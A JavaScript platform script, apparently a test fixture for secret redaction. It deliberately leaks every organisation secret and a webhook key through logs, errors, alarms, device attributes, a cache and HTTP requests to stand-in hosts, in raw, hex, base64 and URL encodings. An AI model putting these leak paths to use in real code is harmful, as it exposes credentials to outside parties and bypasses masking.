// Lets every secret it was given out by the way that params.way names.
async function rpc_script({ device, params, alarms, logger, org_params }) {
  const all = Object.values(org_params).join(" | ");
  const key = org_params.wecom_webhook_url.split("key=")[1];
  const encoded = (text) => ({
    raw: text,
    url: encodeURIComponent(text),
    json: JSON.stringify({ text }),
    hex: Buffer.from(text).toString("hex"),
    HEX: Buffer.from(text).toString("hex").toUpperCase(),
    base64: Buffer.from(text).toString("base64"),
    shifted: [Buffer.from("x" + text).toString("base64"), Buffer.from("xy" + text).toString("base64url")],
    json_in_url: encodeURIComponent(JSON.stringify({ text })),
  });
  const send = (url, more) => [{ type: "axios", dnMsg: { method: "POST", url, data: { all }, ...more } }];
  switch (params.way) {
    case "log":
      logger.info("info " + all, encoded(all));
      logger.warn(encodeURIComponent(all), { key: encoded(key) });
      logger.error(Buffer.from(all).toString("base64"), { [key]: all });
      console.log(all, { org_params });
      return null;
    case "throw":
      throw new Error("thrown " + all + " and " + JSON.stringify(encoded(key)));
    case "throw_object":
      throw { message: all, stack: key, org_params };
    case "not_actions":
      return { all, key: encoded(key) };
    case "bad_type":
      return [{ type: all, dnMsg: {} }];
    case "bad_field":
      return [{ type: "axios", dnMsg: { url: "https://echo.example/", [all]: 1 } }];
    case "bad_alarm":
      return [{ type: "alarm", dnMsg: { action: all, data: { alarm_name: key } } }];
    case "bad_target":
      return [{ target: key, type: "modifyAttrs", dnMsg: { server_attrs: {} } }];
    case "attributes":
      return [
        { type: "modifyAttrs", dnMsg: { server_attrs: { all, key, ...encoded(all) }, shared_attrs: { deep: [{ all }] }, client_attrs: { [key]: 1 } } },
        { type: "modifyAttrs", sleepTimeMs: 5, dnMsg: { server_attrs: { later: encoded(key) } } },
      ];
    case "alarm":
      return [
        { type: "alarm", dnMsg: { action: "new", data: { alarm_name: "n " + key, title: all, desc: JSON.stringify(encoded(all)), level: "low", notice_groups: [key] } } },
        { type: "alarm", sleepTimeMs: 5, dnMsg: { action: "new", data: { alarm_name: "later", title: key, desc: all } } },
      ];
    case "clear":
      return [{ type: "alarm", dnMsg: { action: "clear", data: { alarm_name: "later", desc: "recovered " + all } } }];
    case "downlink":
      return [{ dnMsg: { version: "3.0", type: "data", if: key, userdata: { port: 5, payload: Buffer.from(all).toString("base64") }, note: all } }];
    case "echo":
      return send("https://echo.example/500?q=" + encodeURIComponent(all), { headers: { "X-All": encodeURIComponent(all), Authorization: "Bearer " + key } });
    case "refused":
      return send("https://refused.example/" + encodeURIComponent(all) + "?other=" + key, { auth: { username: "me", password: key } });
    case "redirect":
      return send("https://echo.example/redirect?to=" + encodeURIComponent("https://refused.example/?all=" + all));
    case "errcode":
      return send(org_params.wecom_webhook_url, { data: { msgtype: "text", text: { content: all } } });
    case "unresolved":
      return send("https://" + key.toLowerCase().replace(/[^a-z0-9]/g, "-") + ".invalid/" + key);
    case "await":
      try {
        await axios.post("https://echo.example/500?key=" + key, { all }, { headers: { "X-Key": key } });
      } catch (e) {
        logger.error(e.message, { code: e.code, config: e.config, data: e.response?.data, headers: e.response?.headers });
        logger.info(String(e), e.toJSON());
        throw e;
      }
      return null;
    case "cache":
      await cache.set("all", { all, key }, 60);
      return [{ type: "modifyAttrs", dnMsg: { server_attrs: { cached: await cache.get("all") } } }];
    default:
      throw new Error("no such way");
  }
}
